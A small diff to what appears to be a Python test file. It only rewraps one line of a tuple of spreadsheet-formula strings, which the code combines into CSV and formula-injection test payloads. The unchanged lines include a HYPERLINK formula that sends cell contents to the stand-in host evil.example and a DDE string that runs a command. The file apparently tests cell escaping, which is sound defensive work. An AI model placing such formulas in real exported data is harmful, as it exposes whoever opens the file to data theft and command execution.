@@ -217,8 +217,8 @@ STARTS = ("=", "+", "-", "@", "\t=", "\r=")
 TAILS = (
     'HYPERLINK("http://evil.example?"&A1,"Tea")', "SUM(A1:A9)", "2+3", "1", "cmd|' /C calc'!A0",
     "IMPORTXML(1)", "DDE(1)", "'", '"', "é", ",x", ";x", "A1", "(1)", "{1}", "[1]x!A1", "1;2",
-    "x'y", "@x", "-x", "=x", "+x", "50% Soap", "🫖", "WEBSERVICE(1)", "1E5", "x,y", "''", "!", "A:A", " x",
-    "x\\y", "<b>", "&amp;",
+    "x'y", "@x", "-x", "=x", "+x", "50% Soap", "🫖", "WEBSERVICE(1)", "1E5", "x,y", "''", "!",
+    "A:A", " x", "x\\y", "<b>", "&amp;",
 )  # fmt: skip
 PAYLOADS = [f"{start}{tail}" for start, tail in product(STARTS, TAILS)]
 STORED = [text for text in PAYLOADS if text[0] not in "\t\r"]
